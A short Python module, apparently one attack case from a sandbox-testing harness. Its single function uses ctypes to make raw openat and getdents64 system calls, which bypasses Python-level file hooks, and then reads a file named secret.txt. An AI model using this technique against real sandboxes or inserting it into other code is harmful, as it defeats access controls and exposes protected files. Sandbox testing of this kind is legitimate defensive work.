"""Lists a directory by the system call itself; with it the names of what may be read."""

import ctypes
import os
import platform

CALLS = {"x86_64": (257, 217), "aarch64": (56, 61)}  # openat, getdents64


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    openat, getdents = (ctypes.c_long(n) for n in CALLS[platform.machine()])
    folder = TARGET["cache"].rpartition("/")[0].encode()
    flags = ctypes.c_long(os.O_RDONLY | os.O_DIRECTORY)
    descriptor = libc.syscall(openat, ctypes.c_long(-100), folder, flags, ctypes.c_long(0))
    names = ctypes.create_string_buffer(1 << 15)
    size = ctypes.c_long(len(names))
    if libc.syscall(getdents, ctypes.c_long(descriptor), names, size) <= 0:
        raise OSError(ctypes.get_errno(), "no list")
    assert b"secret.txt" in names.raw
    return open(folder + b"/secret.txt").read()
